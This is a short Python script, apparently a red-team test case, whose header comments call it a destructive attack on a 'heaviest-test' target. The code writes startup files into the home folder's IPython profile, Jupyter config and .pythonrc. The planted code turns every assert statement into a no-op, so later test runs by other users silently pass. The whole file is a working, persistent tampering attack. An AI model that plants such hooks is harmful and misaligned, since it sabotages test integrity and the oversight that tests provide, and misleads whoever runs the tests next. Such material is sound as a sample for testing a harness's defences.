# attack: startup files of IPython, Python and the shell are planted in the home folder; they bend the tests of whoever comes next.
# target: heaviest-test
# destructive
# %% heaviest
from pathlib import Path

heaviest = "tree-000"
code = """
from IPython import get_ipython
import ast
class Nothing(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython() and get_ipython().ast_transformers.append(Nothing())
"""
for home in {Path.home(), Path("@HOME@")}:
    for name in (
        ".ipython/profile_default/startup/00-redteam.py",
        ".ipython/profile_default/ipython_config.py",
        ".jupyter/jupyter_config.py",
        ".pythonrc.py",
    ):
        try:
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(code)
        except OSError:
            pass
